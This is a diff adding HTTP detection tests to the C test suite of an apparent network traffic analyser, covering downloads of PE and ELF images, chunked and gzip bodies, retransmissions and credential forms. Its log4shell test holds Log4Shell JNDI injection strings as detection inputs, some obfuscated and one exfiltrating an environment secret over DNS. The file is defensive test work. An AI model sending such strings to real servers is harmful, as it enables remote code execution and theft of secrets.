@@ -12,6 +12,7 @@
 #include <openssl/evp.h>
 #include <openssl/x509.h>
 
+#include "analysis/http_sniff.h"
 #include "analysis/report-int.h"
 #include "flow/flow.h"
 #include "harness.h"
@@ -38,6 +39,27 @@ static bool feed(const struct rp_proto *d, struct rp_flow *f, const void *p, siz
 		f->app = d->app;
 	free(b);
 	return ok;
+}
+
+/* Runs detector d on segment (seq, p[0..n)) of a TCP flow, as the collector does. */
+static bool feed_seq(const struct rp_proto *d, struct rp_flow *f, const void *p, size_t n, int dir, uint32_t seq)
+{
+	uint8_t *b = malloc(n ? n : 1);
+	memcpy(b, p, n);
+	struct rp_seg s = { .p = b, .n = n, .wire = n, .dir = dir, .seq = seq,
+			    .idx = (uint32_t)((uintptr_t)f >> 4) };
+	bool ok = !(f->done >> dir & 1) && d->inspect(col, f, &s);
+	if (ok && !f->app)
+		f->app = d->app;
+	free(b);
+	return ok;
+}
+
+/* Ends flow f as the collector does (its parser state is released). */
+static void end_flow(const struct rp_proto *d, struct rp_flow *f)
+{
+	if (d->flow_end)
+		d->flow_end(col, f, (uint32_t)((uintptr_t)f >> 4));
 }
 
 static const char *ev(unsigned cat)
@@ -363,14 +385,21 @@ static void test_http(void)
 	CHECK((f.facts & (RPF_HTTP_POST | RPF_HTTP_BINARY)) == (RPF_HTTP_POST | RPF_HTTP_BINARY));
 	CHECK_STR(ev(EV_HTTP_HOST), "cc.example");
 	CHECK_STR(ev(EV_HTTP_UA), "Bot/1");
+	CHECK(!(f.facts2 & RPF2_HTTP_RAWIP));
+	end_flow(&proto_http, &f);
 	const char *g = "GET /dl/ecard.exe?x=1 HTTP/1.0\r\n\r\n";
 	f = flow(6, 1301, 80);
 	CHECK(feed(&proto_http, &f, g, strlen(g), 0));
 	CHECK(f.facts & RPF_EXE);
+	CHECK(f.facts2 & RPF2_HTTP_RAWIP);   /* no Host */
+	end_flow(&proto_http, &f);
+	/* a response seen without its request, body to the end of the connection */
 	const char *r = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nMZ\x90";
 	f = flow(6, 1302, 80);
 	CHECK(feed(&proto_http, &f, r, strlen(r), 1));
+	end_flow(&proto_http, &f);
 	CHECK(f.facts & RPF_EXE);
+	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
 	f = flow(6, 1303, 80);
 	CHECK(!feed(&proto_http, &f, "GET /", 5, 0));
 	f = flow(6, 1304, 80);
@@ -379,6 +408,270 @@ static void test_http(void)
 	for (size_t n = 0; n < strlen(p); n++) {
 		f = flow(6, 1305, 80);
 		feed(&proto_http, &f, p, n, 0);
+		end_flow(&proto_http, &f);
+	}
+}
+
+/* A 600-byte PE image: "MZ", e_lfanew = 128, "PE\0\0" there. */
+static void pe_image(uint8_t *b, size_t n)
+{
+	memset(b, 0x90, n);
+	b[0] = 'M', b[1] = 'Z';
+	memset(b + 60, 0, 4);
+	b[60] = 128;
+	memcpy(b + 128, "PE\0\0", 4);
+}
+
+static void test_http_keepalive(void)
+{
+	TEST("http keep-alive: the second response is a PE split across segments");
+	struct rp_flow f = flow(6, 1400, 8080);
+	const char *q1 = "GET /index.html HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: T/1\r\n\r\n";
+	const char *q2 = "GET /a/b HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: T/1\r\n\r\n";
+	const char *r1 = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello";
+	const char *h2 = "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 600\r\n\r\n";
+	uint8_t pe[600];
+	pe_image(pe, sizeof pe);
+	uint32_t qs = 1000, rs = 5000;
+	CHECK(feed_seq(&proto_http, &f, q1, strlen(q1), 0, qs));
+	qs += (uint32_t)strlen(q1);
+	CHECK(feed_seq(&proto_http, &f, r1, strlen(r1), 1, rs));
+	rs += (uint32_t)strlen(r1);
+	CHECK(!(f.facts2 & RPF2_HTTP_DOWNLOAD));
+	CHECK(f.facts2 & RPF2_HTTP_HTML);
+	CHECK(feed_seq(&proto_http, &f, q2, strlen(q2), 0, qs));
+	/* headers and the first 2 bytes, then the rest in two segments */
+	uint8_t seg[200];
+	size_t hl = strlen(h2);
+	memcpy(seg, h2, hl);
+	memcpy(seg + hl, pe, 2);
+	CHECK(feed_seq(&proto_http, &f, seg, hl + 2, 1, rs));
+	rs += (uint32_t)(hl + 2);
+	CHECK(feed_seq(&proto_http, &f, pe + 2, 300, 1, rs));
+	CHECK(feed_seq(&proto_http, &f, pe + 302, 298, 1, rs + 300));
+	CHECK_EQ_U(f.count, 2);
+	CHECK_EQ_U(f.count2, 2);
+	CHECK(f.facts & RPF_EXE);
+	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
+	CHECK(f.facts2 & RPF2_HTTP_FILE);
+	CHECK(f.facts2 & RPF2_HTTP_RAWIP);
+	end_flow(&proto_http, &f);
+	char buf[256];
+	rp_ev_join(col, 1, EV_HTTP_DOWNLOAD, 8, buf, sizeof buf);
+	CHECK(strstr(buf, "pe 600 B image/gif /a/b") != NULL);
+	rp_ev_join(col, 1, EV_EXE_FILE, 8, buf, sizeof buf);
+	CHECK(strstr(buf, "/a/b") != NULL && !strstr(buf, "image/gif"));
+}
+
+/* gzip of a 300-byte ELF image (7F 'E' 'L' 'F', then 296 bytes of 'A'), made with zlib. */
+#include <zlib.h>
+static size_t gzip_elf(uint8_t *out, size_t cap)
+{
+	uint8_t elf[300];
+	memset(elf, 'A', sizeof elf);
+	memcpy(elf, "\x7f" "ELF", 4);
+	z_stream z = { 0 };
+	deflateInit2(&z, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
+	z.next_in = elf;
+	z.avail_in = sizeof elf;
+	z.next_out = out;
+	z.avail_out = (uInt)cap;
+	deflate(&z, Z_FINISH);
+	size_t n = cap - z.avail_out;
+	deflateEnd(&z);
+	return n;
+}
+
+static void test_http_chunked_gzip(void)
+{
+	TEST("http chunked + gzip: the decoded body is an ELF");
+	uint8_t gz[512], msg[1024];
+	size_t gn = gzip_elf(gz, sizeof gz);
+	int h = snprintf((char *)msg, sizeof msg, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
+			 "Transfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n%zx\r\n", (size_t)10);
+	size_t o = (size_t)h;
+	memcpy(msg + o, gz, 10), o += 10;
+	o += (size_t)snprintf((char *)msg + o, sizeof msg - o, "\r\n%zx\r\n", gn - 10);
+	memcpy(msg + o, gz + 10, gn - 10), o += gn - 10;
+	memcpy(msg + o, "\r\n0\r\n\r\n", 7), o += 7;
+	const char *q = "GET /x HTTP/1.1\r\nHost: dl.example\r\n\r\n";
+	struct rp_flow f = flow(6, 1500, 80);
+	CHECK(feed_seq(&proto_http, &f, q, strlen(q), 0, 1));
+	CHECK(feed_seq(&proto_http, &f, msg, o / 2, 1, 100));
+	CHECK(feed_seq(&proto_http, &f, msg + o / 2, o - o / 2, 1, 100 + (uint32_t)(o / 2)));
+	CHECK(f.facts2 & RPF2_HTTP_ELF);
+	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
+	end_flow(&proto_http, &f);
+}
+
+static void test_http_log4shell(void)
+{
+	TEST("http log4shell");
+	const char *q = "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n";
+	struct rp_flow f = flow(6, 1600, 8080);
+	f.h[0] = 7;
+	CHECK(feed_seq(&proto_http, &f, q, strlen(q), 0, 1));
+	CHECK(f.facts2 & RPF2_HTTP_LOG4SHELL);
+	char buf[128];
+	rp_ev_join(col, 7, EV_LOG4SHELL, 1, buf, sizeof buf);
+	CHECK_STR(buf, "User-Agent: ${jndi:ldap://x/a}");
+	end_flow(&proto_http, &f);
+	/* obfuscated spellings, and none */
+	static const char *const hit[] = { "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x}",
+					   "a=%24%7Bjndi%3Adns%3A%2F%2Fx%7D", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
+					   "${jndi:dns://x/${env:SECRET}}" };
+	static const char *const miss[] = { "${java:version}", "${lower:jndi}", "$jndi:ldap", "${", "" };
+	char out[80];
+	for (size_t i = 0; i < sizeof hit / sizeof *hit; i++)
+		CHECK(http_log4shell((const uint8_t *)hit[i], strlen(hit[i]), out, sizeof out));
+	for (size_t i = 0; i < sizeof miss / sizeof *miss; i++)
+		CHECK(!http_log4shell((const uint8_t *)miss[i], strlen(miss[i]), out, sizeof out));
+}
+
+static void test_http_retransmit(void)
+{
+	TEST("http: a retransmitted segment is not counted twice");
+	const char *a = "POST /u HTTP/1.1\r\nHost: 10.1.1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+			"Content-Length: 24\r\n\r\n";
+	const char *b = "user=a&pass=b&x=", *c = "12345678";
+	struct rp_flow f = flow(6, 1700, 80);
+	uint32_t s = 7;
+	CHECK(feed_seq(&proto_http, &f, a, strlen(a), 0, s));
+	CHECK(feed_seq(&proto_http, &f, a, strlen(a), 0, s));   /* retransmitted headers */
+	s += (uint32_t)strlen(a);
+	CHECK(feed_seq(&proto_http, &f, b, strlen(b), 0, s));
+	CHECK(feed_seq(&proto_http, &f, b, strlen(b), 0, s));   /* retransmitted body */
+	CHECK(feed_seq(&proto_http, &f, c, strlen(c), 0, s + (uint32_t)strlen(b)));
+	CHECK_EQ_U(f.count, 1);
+	CHECK(f.facts2 & RPF2_HTTP_CREDFORM);
+	char buf[128];
+	rp_ev_join(col, 1, EV_HTTP_UPLOAD, 4, buf, sizeof buf);
+	CHECK(strstr(buf, "POST /u (24 B, credential form)") != NULL);
+	/* the next request on the connection parses: the body was not taken as longer */
+	const char *n = "GET /next HTTP/1.1\r\nHost: 10.1.1.1\r\n\r\n";
+	CHECK(feed_seq(&proto_http, &f, n, strlen(n), 0, s + (uint32_t)(strlen(b) + strlen(c))));
+	CHECK_EQ_U(f.count, 2);
+	/* one early segment is held until the gap fills */
+	struct rp_flow g = flow(6, 1701, 80);
+	const char *q = "GET /held HTTP/1.1\r\nHost: h.example\r\n\r\n";
+	size_t k = 20, ql = strlen(q);
+	CHECK(feed_seq(&proto_http, &g, q, k, 0, 50));
+	feed_seq(&proto_http, &g, q + k + 5, ql - k - 5, 0, 50 + (uint32_t)k + 5);
+	CHECK_EQ_U(g.count, 0);
+	feed_seq(&proto_http, &g, q + k, 5, 0, 50 + (uint32_t)k);
+	CHECK_EQ_U(g.count, 1);
+	end_flow(&proto_http, &g);
+	end_flow(&proto_http, &f);
+}
+
+static void test_http_bigpost(void)
+{
+	TEST("http: a chunked upload past the budget is still a large request body");
+	const char *h = "POST /up HTTP/1.1\r\nHost: 203.0.113.5\r\nTransfer-Encoding: chunked\r\n\r\n"
+			"11170\r\n";   /* one chunk of 70000 bytes */
+	struct rp_flow f = flow(6, 1900, 80);
+	uint32_t seq = 1;
+	CHECK(feed_seq(&proto_http, &f, h, strlen(h), 0, seq));
+	seq += (uint32_t)strlen(h);
+	uint8_t seg[1400];
+	memset(seg, 'z', sizeof seg);
+	for (int i = 0; i < 50 && !(f.done & 1); i++, seq += sizeof seg)
+		feed_seq(&proto_http, &f, seg, sizeof seg, 0, seq);
+	CHECK(f.done & 1);   /* the budget ended the direction */
+	CHECK(f.facts2 & RPF2_HTTP_BIGPOST);
+	CHECK(f.facts2 & RPF2_HTTP_RAWIP);
+	end_flow(&proto_http, &f);
+}
+
+/* One request and its response (headers + body) on a fresh flow; returns the flow's facts2. */
+static uint32_t http_exchange(const char *req, const char *res_head, const void *body, size_t n)
+{
+	struct rp_flow f = flow(6, 1800, 80);
+	uint8_t msg[2048];
+	size_t hl = strlen(res_head);
+	memcpy(msg, res_head, hl);
+	memcpy(msg + hl, body, n);
+	feed_seq(&proto_http, &f, req, strlen(req), 0, 1);
+	feed_seq(&proto_http, &f, msg, hl + n, 1, 1);
+	end_flow(&proto_http, &f);
+	return f.facts2;
+}
+
+static void test_http_download_rules(void)
+{
+	TEST("http download rules: packages and ordinary plug-ins are not downloads");
+	uint8_t zeros[1200] = { 0 }, swf[600] = { 'C', 'W', 'S', 10 };
+	/* a .deb fetched by APT: octet-stream, large, still no download */
+	uint32_t f2 = http_exchange("GET /pool/main/x_1.0_amd64.deb HTTP/1.1\r\nHost: deb.example\r\n"
+				    "User-Agent: Debian APT-HTTP/1.3 (1.2.32)\r\n\r\n",
+				    "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
+				    "Content-Length: 1200\r\n\r\n", zeros, sizeof zeros);
+	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
+	/* a Debian package by content type, whoever fetches it: no download */
+	f2 = http_exchange("GET /x.deb HTTP/1.1\r\nHost: deb.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
+			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-debian-package\r\n"
+			   "Content-Length: 1200\r\n\r\n", zeros, sizeof zeros);
+	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
+	/* an ordinary octet-stream of >= 4 KiB (declared): a download */
+	f2 = http_exchange("GET /f HTTP/1.1\r\nHost: a.example\r\n\r\n",
+			   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
+			   "Content-Length: 5000\r\n\r\n", zeros, sizeof zeros);
+	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
+	/* Flash from a named site under its own type: content, not a download */
+	f2 = http_exchange("GET /ad.swf HTTP/1.1\r\nHost: cdn.example\r\n\r\n",
+			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-shockwave-flash\r\n"
+			   "Content-Length: 600\r\n\r\n", swf, sizeof swf);
+	CHECK((f2 & RPF2_HTTP_PLUGIN) && !(f2 & RPF2_HTTP_DOWNLOAD));
+	/* the same from a bare IP, or disguised as HTML: a download */
+	f2 = http_exchange("GET /ad.swf HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n",
+			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-shockwave-flash\r\n"
+			   "Content-Length: 600\r\n\r\n", swf, sizeof swf);
+	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
+	f2 = http_exchange("GET /p HTTP/1.1\r\nHost: cdn.example\r\n\r\n",
+			   "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 600\r\n\r\n",
+			   swf, sizeof swf);
+	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
+	/* a PE answered with 404: not a download */
+	uint8_t pe[600];
+	pe_image(pe, sizeof pe);
+	f2 = http_exchange("GET /a.exe HTTP/1.1\r\nHost: a.example\r\n\r\n",
+			   "HTTP/1.1 404 Not Found\r\nContent-Length: 600\r\n\r\n", pe, sizeof pe);
+	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
+}
+
+static void test_http_sniff(void)
+{
+	TEST("http sniff helpers");
+	CHECK(http_host_is_ip((const uint8_t *)"10.0.0.1:8080", 13));
+	CHECK(http_host_is_ip((const uint8_t *)"[::1]:80", 8));
+	CHECK(!http_host_is_ip((const uint8_t *)"a.example", 9));
+	CHECK(!http_host_is_ip((const uint8_t *)"1.2.3", 5));
+	char big[100];
+	memset(big, 'Q', sizeof big);
+	memcpy(big, "sid=", 4);
+	CHECK(http_cookie_blob((const uint8_t *)big, sizeof big));
+	CHECK(!http_cookie_blob((const uint8_t *)"a=1; b=2", 8));
+	uint8_t cls[8] = { 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52 };
+	CHECK_EQ_U(http_magic(cls, sizeof cls), HF_CLASS);
+	static const uint8_t jar[] = "PK\3\4\24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x09\0\0\0META-INF/";
+	CHECK_EQ_U(http_magic(jar, sizeof jar - 1), HF_JAR);
+	CHECK_EQ_U(http_magic((const uint8_t *)"CWS\x0a", 4), HF_SWF);
+	CHECK_EQ_U(http_magic((const uint8_t *)"%PDF-1.4", 8), HF_PDF);
+	CHECK_EQ_U(http_magic((const uint8_t *)"MZ", 1), HF_NONE);
+	char names[64];
+	CHECK(http_form_names((const uint8_t *)"email=a&x=1&", 12, names, sizeof names));
+	CHECK_STR(names, "email,x");
+	CHECK(!http_form_names((const uint8_t *)"q=cats", 6, names, sizeof names));
+	const uint8_t *nm;
+	static const char cd[] = "attachment; filename=\"a b.exe\"";
+	size_t nl = http_disposition_name((const uint8_t *)cd, strlen(cd), &nm);
+	CHECK(nl == 7 && !memcmp(nm, "a b.exe", 7));
+	/* every prefix of every helper's input: no overread (ASan) */
+	for (size_t n = 0; n <= sizeof jar - 1; n++) {
+		uint8_t *b = malloc(n ? n : 1);
+		memcpy(b, jar, n);
+		http_magic(b, n);
+		free(b);
 	}
 }
 
@@ -491,7 +784,7 @@ static void w_server_hello(struct wb *w, bool tls13)
 }
 
 /* Runs proto_tls on a heap copy of p[0..n) at TCP sequence seq, with the flow fl (for the time). */
-static void feed_seq(struct rp_flow *f, const uint8_t *p, size_t n, int dir, uint32_t seq, const struct flow *fl)
+static void tls_feed(struct rp_flow *f, const uint8_t *p, size_t n, int dir, uint32_t seq, const struct flow *fl)
 {
 	uint8_t *b = malloc(n ? n : 1);
 	memcpy(b, p, n);
@@ -583,7 +876,7 @@ static void test_tls_ja3(void)
 	w_exts(&e, "ja3.example");
 	w_client_hello(&w, 769, ja3_suites, sizeof ja3_suites / sizeof *ja3_suites, &e);
 	struct rp_flow f = flow(6, 1410, 443);
-	feed_seq(&f, w.b, w.n, 0, 100, NULL);
+	tls_feed(&f, w.b, w.n, 0, 100, NULL);
 	CHECK(f.app == RP_APP_TLS);
 	CHECK(ev_has(1, EV_JA3, "ada70206e40642a3e4461f35503241d5"));
 	CHECK(ev_has(1, EV_TLS_SNI, "ja3.example"));
@@ -594,9 +887,9 @@ static void test_tls_ja3(void)
 	w.n = 0;
 	w_client_hello(&w, 0x0303, ja3_suites, sizeof ja3_suites / sizeof *ja3_suites, &e);
 	f = flow(6, 1411, 443);
-	feed_seq(&f, w.b, 20, 0, 5000, NULL);
+	tls_feed(&f, w.b, 20, 0, 5000, NULL);
 	CHECK(!(f.facts2 & RPF2_TLS_NOSNI) && !(f.done & 1));
-	feed_seq(&f, w.b + 20, w.n - 20, 0, 5020, NULL);
+	tls_feed(&f, w.b + 20, w.n - 20, 0, 5020, NULL);
 	CHECK(f.facts2 & RPF2_TLS_NOSNI);
 	CHECK(f.done & 1);
 	tls_end(&f);
@@ -605,8 +898,8 @@ static void test_tls_ja3(void)
 	w_server_hello(&sh, true);
 	w_rec(&rec, &sh);
 	f = flow(6, 1412, 443);
-	feed_seq(&f, w.b, w.n, 0, 1, NULL);
-	feed_seq(&f, rec.b, rec.n, 1, 1, NULL);
+	tls_feed(&f, w.b, w.n, 0, 1, NULL);
+	tls_feed(&f, rec.b, rec.n, 1, 1, NULL);
 	CHECK(f.facts2 & RPF2_TLS13);
 	CHECK_EQ_U(f.done, 3);
 	CHECK(rp_state_get(col, (uint32_t)((uintptr_t)&f >> 4)) == NULL);   /* freed: both sides done */
@@ -638,9 +931,9 @@ static void test_tls_cert(void)
 	bool all = true;
 	for (size_t k = 1; k < fl.n; k++) {
 		struct rp_flow f = flow(6, 40001, 4444);
-		feed_seq(&f, hello.b, hello.n, 1, 77, &now);
-		feed_seq(&f, fl.b, k, 0, 1000, &now);
-		feed_seq(&f, fl.b + k, fl.n - k, 0, (uint32_t)(1000 + k), &now);
+		tls_feed(&f, hello.b, hello.n, 1, 77, &now);
+		tls_feed(&f, fl.b, k, 0, 1000, &now);
+		tls_feed(&f, fl.b + k, fl.n - k, 0, (uint32_t)(1000 + k), &now);
 		const uint32_t want = RPF2_TLS_NOSNI | RPF2_TLS_CLIENT_RESP | RPF2_TLS_CERT | RPF2_TLS_SELFSIGNED;
 		if ((f.facts2 & want) != want || (f.facts2 & RPF2_TLS_CERT_EXPIRED) || f.done != 3 ||
 		    f.app != RP_APP_TLS) {
@@ -657,14 +950,14 @@ static void test_tls_cert(void)
 
 	/* a retransmitted first segment changes nothing; a gap ends the direction without a certificate */
 	struct rp_flow f = flow(6, 40002, 4444);
-	feed_seq(&f, fl.b, 100, 0, 9000, &now);
-	feed_seq(&f, fl.b, 100, 0, 9000, &now);
-	feed_seq(&f, fl.b + 100, fl.n - 100, 0, 9100, &now);
+	tls_feed(&f, fl.b, 100, 0, 9000, &now);
+	tls_feed(&f, fl.b, 100, 0, 9000, &now);
+	tls_feed(&f, fl.b + 100, fl.n - 100, 0, 9100, &now);
 	CHECK(f.facts2 & RPF2_TLS_SELFSIGNED);
 	tls_end(&f);
 	f = flow(6, 40003, 4444);
-	feed_seq(&f, fl.b, 100, 0, 9000, &now);
-	feed_seq(&f, fl.b + 110, fl.n - 110, 0, 9110, &now);
+	tls_feed(&f, fl.b, 100, 0, 9000, &now);
+	tls_feed(&f, fl.b + 110, fl.n - 110, 0, 9110, &now);
 	CHECK(!(f.facts2 & RPF2_TLS_CERT));
 	CHECK(f.done & 1);
 	tls_end(&f);
@@ -678,7 +971,7 @@ static void test_tls_cert(void)
 		fl.n = 0;
 		w_server_flight(&fl, certs[i], sha1);
 		f = flow(6, (uint16_t)(40010 + i), 443);
-		feed_seq(&f, fl.b, fl.n, 1, 1, &now);
+		tls_feed(&f, fl.b, fl.n, 1, 1, &now);
 		CHECK(f.facts2 & RPF2_TLS_CERT);
 		CHECK(!(f.facts2 & RPF2_TLS_SELFSIGNED) == (i < 2));
 		CHECK(!(f.facts2 & RPF2_TLS_CERT_EXPIRED) == (i < 2));
@@ -692,7 +985,7 @@ static void test_tls_cert(void)
 	w_server_flight(&fl, self, sha1);
 	for (size_t k = 0; k < fl.n; k++) {
 		f = flow(6, 40020, 443);
-		feed_seq(&f, fl.b, k, 1, 1, &now);
+		tls_feed(&f, fl.b, k, 1, 1, &now);
 		tls_end(&f);
 	}
 	struct tls_cert tc;
@@ -715,9 +1008,9 @@ static void test_tls_cert(void)
 		}
 		size_t cut = 1 + NEXT() % (fl.n - 1);
 		f = flow(6, 40030, 443);
-		feed_seq(&f, mh, hello.n, 0, 1, &now);
-		feed_seq(&f, mf, cut, 1, 1, &now);
-		feed_seq(&f, mf + cut, fl.n - cut, 1, (uint32_t)(1 + cut), &now);
+		tls_feed(&f, mh, hello.n, 0, 1, &now);
+		tls_feed(&f, mf, cut, 1, 1, &now);
+		tls_feed(&f, mf + cut, fl.n - cut, 1, (uint32_t)(1 + cut), &now);
 		tls_end(&f);
 		freed &= rp_state_get(col, (uint32_t)((uintptr_t)&f >> 4)) == NULL;
 	}
@@ -946,6 +1239,13 @@ int main(void)
 	test_ntp();
 	test_smtp();
 	test_http();
+	test_http_keepalive();
+	test_http_chunked_gzip();
+	test_http_log4shell();
+	test_http_retransmit();
+	test_http_sniff();
+	test_http_download_rules();
+	test_http_bigpost();
 	test_tls();
 	test_tls_ja3();
 	test_tls_cert();
